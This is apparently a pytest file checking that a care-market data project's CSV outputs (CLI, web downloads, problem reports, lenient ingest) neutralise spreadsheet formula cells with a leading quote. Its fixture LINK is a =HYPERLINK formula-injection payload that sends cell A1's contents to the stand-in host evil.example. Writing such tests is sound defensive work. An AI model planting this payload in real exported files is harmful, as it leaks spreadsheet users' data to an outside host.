"""Every CSV the project writes neutralises cells a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from caremarket.cli.render import OutputFormat, write_records
from caremarket.domain.csv_cell import FORMULA_STARTS, csv_writer, safe_cell
from caremarket.ingest.problem import DataProblem, ProblemCode, write_problem_report
from caremarket.pipeline import ingest_file
from caremarket.store.duckdb_store import DuckDBStore
from caremarket.web.responses import csv_bytes

LINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_each_formula_start_is_neutralised(start: str) -> None:
    """A text cell starting with =, +, -, @, tab or carriage return gets a leading quote."""
    assert safe_cell(start + "1+1") == "'" + start + "1+1"


def test_plain_text_and_numbers_are_unchanged() -> None:
    """Ordinary text, signed numbers (as numbers or text), and None pass through as they are."""
    assert safe_cell("Lincoln House") == "Lincoln House"
    assert safe_cell(-3.5) == -3.5
    assert safe_cell("-3.5") == "-3.5"
    assert safe_cell("-2e-05") == "-2e-05"
    assert safe_cell("-2+3") == "'-2+3"
    assert safe_cell(None) is None
    out = io.StringIO()
    csv_writer(out, lineterminator="\n").writerow(["a=b", -2, "@home"])
    assert out.getvalue() == "a=b,-2,'@home\n"


def test_cli_csv_output(capsys: pytest.CaptureFixture[str]) -> None:
    """`--format csv` (figures, metrics) writes a hostile name as text and numbers as numbers."""
    write_records([{"name": LINK, "change": -3, "beds": 12}], OutputFormat.CSV)
    rows = _cells(capsys.readouterr().out)
    assert rows == [["name", "change", "beds"], ["'" + LINK, "-3", "12"]]


def test_web_csv_download() -> None:
    """The web tool's CSV bodies neutralise hostile cells, lists included."""
    body = csv_bytes([{"area": "+SUM(1)", "names": ["@x", "y"], "n": -1}], ["area", "names", "n"])
    assert _cells(body.decode()) == [["area", "names", "n"], ["'+SUM(1)", "'@x;y", "-1"]]


def test_problem_report(tmp_path: Path) -> None:
    """A problem report quotes a hostile value as text in its value and message columns."""
    problem = DataProblem(ProblemCode.UNKNOWN_RATING, "-file.csv", "a rating", 2, "Rating", LINK)
    target = tmp_path / "report.csv"
    write_problem_report([problem], target)
    row = _cells(target.read_text(encoding="utf-8"))[1]
    assert row[2] == "'-file.csv"
    assert row[5] == "'" + LINK
    assert all(not cell.startswith(FORMULA_STARTS) for cell in row)


def test_lenient_ingest_report_of_a_real_release(shared_data: Path, tmp_path: Path) -> None:
    """A `=HYPERLINK` rating in the real ratings file reaches the report neutralised."""
    lines = (shared_data / "cqc/latest_ratings_lincolnshire_2026-06.csv").read_text().splitlines()
    lines[1] = lines[1].replace(",Good,", ',"' + LINK.replace('"', '""') + '",', 1)
    path = tmp_path / "ratings.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    with DuckDBStore(tmp_path / "store.duckdb") as store:
        result = ingest_file(store, path, lenient=True)
    target = tmp_path / "report.csv"
    write_problem_report(result.problems, target)
    values = [row[5] for row in _cells(target.read_text(encoding="utf-8"))[1:]]
    assert values == ["'" + LINK]
